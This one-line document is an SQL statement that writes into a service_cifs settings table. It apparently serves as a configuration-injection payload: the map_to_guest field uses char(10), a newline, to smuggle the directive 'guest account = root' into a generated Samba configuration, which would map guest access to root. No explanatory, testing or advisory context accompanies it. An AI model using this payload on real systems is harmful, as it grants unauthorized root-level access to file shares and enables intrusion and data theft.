INSERT INTO service_cifs (user_home_directory,security,map_to_guest) VALUES(0,'user','Bad User' || char(10) || ' guest account = root');
